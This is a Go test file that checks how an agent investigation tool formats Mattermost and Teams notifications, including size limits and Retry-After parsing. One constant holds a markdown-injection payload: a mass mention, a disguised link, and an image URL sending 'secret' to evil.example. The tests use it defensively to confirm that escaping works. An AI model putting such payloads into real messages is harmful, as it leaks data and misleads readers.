package notify

import (
	"encoding/json"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/atc0005/go-teams-notify/v2/adaptivecard"
	"github.com/google/go-cmp/cmp"

	"github.com/inquest-dev/inquest/internal/agent"
	"github.com/inquest-dev/inquest/internal/face/report"
	"github.com/inquest-dev/inquest/internal/record"
)

var now = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)

// hostile is a text that tries to mention people, to hide an address, to load an image, and to end a block of code.
const hostile = "@all [the docs](https://evil.example/) ![](https://evil.example/?q=secret)\n```\n[a](https://evil.example/)"

func approvalEvent() Event {
	return Event{
		Type: TypeWaiting, Time: now, Investigation: Investigation{
			ID: "dig-1:ab", WorkflowID: "dig-1", Project: "shop", Chain: "dig", Severity: "critical", URL: "https://inquest.example.com/#/dig-1:ab",
		},
		Approval: &record.Approval{
			Tool: "kubectl.delete", Agent: "Fixer", Risk: agent.RiskDestructive, Arguments: `{"pod":"checkout"}`, Approvers: []string{"sre"},
			Expires: now.Add(time.Hour), Reason: "It is stuck. " + hostile,
		},
	}
}

func reportEvent(text string) Event {
	e := approvalEvent()
	e.Type, e.Approval = TypeFinished, nil
	e.Report = &report.Report{ID: "dig-1:ab", Line: "dig-1:ab · completed · 2 min", Text: text}
	return e
}

func TestMattermost(t *testing.T) {
	t.Parallel()
	got := mattermost(messageOf(approvalEvent(), now))
	const want = "**\\[critical] Approval needed: kubectl.delete in dig-1**\n\nAgent: Fixer  \nRisk: destructive  \n" +
		"Note: can be decided by sre  \nDeadline: auto-denied in 1 h (13:00:00 UTC) unless approved  \nProject: shop  \n" +
		"Chain: dig  \n\n```\n{\"pod\":\"checkout\"}\n```\n\n" +
		"- the agent says: It is stuck. " +
		"@\u200ball \\[the docs](https://evil.example/) !\\[](https://evil.example/?q=secret)\n```\n" +
		"\\[a](https://evil.example/)\n\n[Open the investigation](https://inquest.example.com/#/dig-1:ab)"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	for _, text := range []string{"`run @all now`", "_@channel", "`@channel", "```\n@here\n```", "*@sysadmin*"} {
		if got := mattermost(messageOf(reportEvent(text), now)); regexp.MustCompile(`@\w`).MatchString(got) {
			t.Errorf("%q mentions people in %q", text, got)
		}
	}
	for _, text := range []string{strings.Repeat("x", 100_000), strings.Repeat("😀 ", 50_000), strings.Repeat("[", 50_000)} {
		if got := mattermost(messageOf(reportEvent(text), now)); len([]rune(got)) > 16383 {
			t.Errorf("%d characters, Mattermost takes 16,383", len([]rune(got)))
		}
	}
}

// TestTeams checks cards with the rules of another project, and with the size that Teams accepts.
func TestTeams(t *testing.T) {
	t.Parallel()
	started := approvalEvent()
	started.Type, started.Approval = TypeStarted, nil
	question := started
	question.Type, question.Question = TypeWaiting, &record.Question{ID: "q", Stage: "plan", Question: "Which one? " + hostile}
	for name, e := range map[string]Event{
		"approval": approvalEvent(), "started": started, "question": question, "nothing known": {Type: TypeStarted},
		"report": reportEvent("# Found\n\nThe **pool**.\n\n```\n$ a\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"), "hostile": reportEvent(hostile),
		"long": reportEvent(strings.Repeat("😀 \"[\n", 40_000)), "escapes": reportEvent(strings.Repeat("<\x01", 40_000)),
	} {
		text := encode(teams(messageOf(e, now)))
		if len(text) > 28<<10 {
			t.Errorf("%s: %d bytes, Teams takes 28 KB", name, len(text))
		}
		var card adaptivecard.Message
		if err := json.Unmarshal(text, &card); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if err := card.Validate(); err != nil {
			t.Errorf("%s: %v\n%s", name, err, text)
		}
		if strings.Contains(string(text), " [the docs]") || strings.Contains(string(text), "![]") {
			t.Errorf("%s has a link or an image: %s", name, text)
		}
	}
}

func TestRetryAfter(t *testing.T) {
	t.Parallel()
	for value, want := range map[string]time.Duration{"": 0, "30": 30 * time.Second, "-5": 0, "soon": 0, "999999999": time.Hour} {
		if got := retryAfter(value); got != want {
			t.Errorf("%q: %v, want %v", value, got, want)
		}
	}
	if got := retryAfter(time.Now().Add(30 * time.Minute).UTC().Format(http.TimeFormat)); got < 20*time.Minute || got > 30*time.Minute {
		t.Errorf("a date: %v", got)
	}
}
